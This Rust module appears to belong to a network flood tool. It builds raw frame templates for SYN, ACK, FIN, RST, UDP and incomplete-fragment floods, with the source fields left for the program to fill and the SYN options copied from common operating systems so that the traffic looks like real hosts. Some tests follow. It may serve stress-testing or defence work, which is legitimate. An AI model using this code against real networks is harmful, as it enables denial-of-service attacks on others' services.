//! The frames of a flood: what hosts really send, with the fields left zero that the program fills.

use std::net::SocketAddrV4;

use super::Vector;

/// Where the fields are that differ from frame to frame.
pub(super) const IP_ID: i16 = 18;
pub(super) const IP_SUM: i16 = 24;
pub(super) const IP_SOURCE: i16 = 26;
pub(super) const SOURCE_PORT: i16 = 34;
pub(super) const TCP_SEQ: i16 = 38;
pub(super) const TCP_ACK: i16 = 42;
pub(super) const TCP_SUM: i16 = 50;

const ETHERNET: usize = 14;
const IPV4: usize = 20;
const TCP_PROTOCOL: u8 = 6;
const UDP_PROTOCOL: u8 = 17;
const SYN: u8 = 0x02;
const FIN: u8 = 0x01;
const RST: u8 = 0x04;
const ACK: u8 = 0x10;

/// The options of the SYNs of common hosts.
const LINUX: &[u8] = &[
    2, 4, 5, 180, 4, 2, 8, 10, 0x3a, 0x1f, 0x52, 0x9c, 0, 0, 0, 0, 1, 3, 3, 7,
];
const WINDOWS: &[u8] = &[2, 4, 5, 180, 1, 3, 3, 8, 1, 1, 4, 2];
const MACOS: &[u8] = &[
    2, 4, 5, 180, 1, 3, 3, 6, 1, 1, 8, 10, 0x5c, 0x88, 0x01, 0x7d, 0, 0, 0, 0, 4, 2, 0, 0,
];
const EMBEDDED: &[u8] = &[2, 4, 2, 24];

/// A frame without source address, source port, sequence numbers and checksums.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Template {
    pub(super) bytes: Vec<u8>,
    pub(super) vector: Vector,
}

impl Template {
    /// Builds the frames of one vector.
    pub(super) fn of(vector: Vector, macs: ([u8; 6], [u8; 6]), target: SocketAddrV4) -> Vec<Self> {
        let tcp = |flags, options| {
            ip(
                macs,
                target,
                TCP_PROTOCOL,
                0x4000,
                &tcp(target, flags, options),
            )
        };
        let udp = |fragment| ip(macs, target, UDP_PROTOCOL, fragment, &udp(target));
        let frames = match vector {
            Vector::Syn => [LINUX, WINDOWS, MACOS, EMBEDDED]
                .map(|options| tcp(SYN, options))
                .to_vec(),
            Vector::Ack => vec![tcp(ACK, &[])],
            Vector::Fin => vec![tcp(FIN | ACK, &[])],
            Vector::Rst => vec![tcp(RST, &[])],
            Vector::Udp => vec![udp(0)],
            // The first piece of a datagram and a later one, whose other pieces never come.
            Vector::Fragments => vec![udp(0x2000), udp(0x20b9)],
        };
        let template = |bytes| Self { bytes, vector };
        frames.into_iter().map(template).collect()
    }

    /// Tells whether the segment's checksum is to be filled in.
    pub(super) fn is_tcp(&self) -> bool {
        !matches!(self.vector, Vector::Udp | Vector::Fragments)
    }

    /// Adds up the IPv4 header's words.
    pub(super) fn ip_sum(&self) -> u32 {
        sum(self
            .bytes
            .get(ETHERNET..ETHERNET + IPV4)
            .unwrap_or_default())
    }

    /// Adds up the segment's words and those of its pseudo header, without the source.
    pub(super) fn tcp_sum(&self) -> u32 {
        let segment = self.bytes.get(ETHERNET + IPV4..).unwrap_or_default();
        let target = self.bytes.get(30..34).unwrap_or_default();
        sum(segment) + sum(target) + u32::from(TCP_PROTOCOL) + segment.len() as u32
    }
}

fn tcp(target: SocketAddrV4, flags: u8, options: &[u8]) -> Vec<u8> {
    let mut segment = vec![0; 20];
    segment.splice(2..4, target.port().to_be_bytes());
    segment.splice(12..16, [5 + (options.len() / 4) as u8, flags, 0xfa, 0xf0]);
    if let Some(offset) = segment.get_mut(12) {
        *offset <<= 4;
    }
    segment.extend(options);
    segment
}

/// A datagram without a checksum, which IPv4 allows (RFC 768).
fn udp(target: SocketAddrV4) -> Vec<u8> {
    let mut datagram = vec![0; 32];
    datagram.splice(2..4, target.port().to_be_bytes());
    datagram.splice(4..6, 32_u16.to_be_bytes());
    datagram
}

fn ip(
    (to, from): ([u8; 6], [u8; 6]),
    target: SocketAddrV4,
    protocol: u8,
    fragment: u16,
    payload: &[u8],
) -> Vec<u8> {
    let mut frame = [to.as_slice(), &from, &[8, 0, 0x45, 0]].concat();
    frame.extend(((IPV4 + payload.len()) as u16).to_be_bytes());
    frame.extend([0, 0]);
    frame.extend(fragment.to_be_bytes());
    frame.extend([57, protocol, 0, 0, 0, 0, 0, 0]);
    frame.extend(target.ip().octets());
    frame.extend(payload);
    frame
}

/// Adds up 16-bit words without folding.
pub(super) fn sum(bytes: &[u8]) -> u32 {
    bytes
        .chunks(2)
        .map(|pair| {
            let [high, low] = [0, 1].map(|at| u32::from(pair.get(at).copied().unwrap_or_default()));
            high << 8 | low
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_vector_has_frames_of_whole_words_with_the_target_in_place() {
        let target = "10.80.0.100:80".parse().unwrap();
        for vector in Vector::ALL {
            let templates = Template::of(vector, ([2; 6], [4; 6]), target);
            assert!(!templates.is_empty());
            for template in templates {
                let bytes = &template.bytes;
                assert_eq!(bytes[30..34], [10, 80, 0, 100], "{vector:?}");
                assert_eq!(bytes[36..38], [0, 80], "{vector:?}");
                assert_eq!(usize::from(bytes[17]) + 14, bytes.len(), "{vector:?}");
                assert_eq!(bytes.len() % 2, 0, "{vector:?}");
            }
        }
    }

    #[test]
    fn syns_fill_their_data_offset() {
        let target = "10.80.0.100:80".parse().unwrap();
        for template in Template::of(Vector::Syn, ([2; 6], [4; 6]), target) {
            let offset = usize::from(template.bytes[46] >> 4) * 4;
            assert_eq!(34 + offset, template.bytes.len());
        }
    }
}
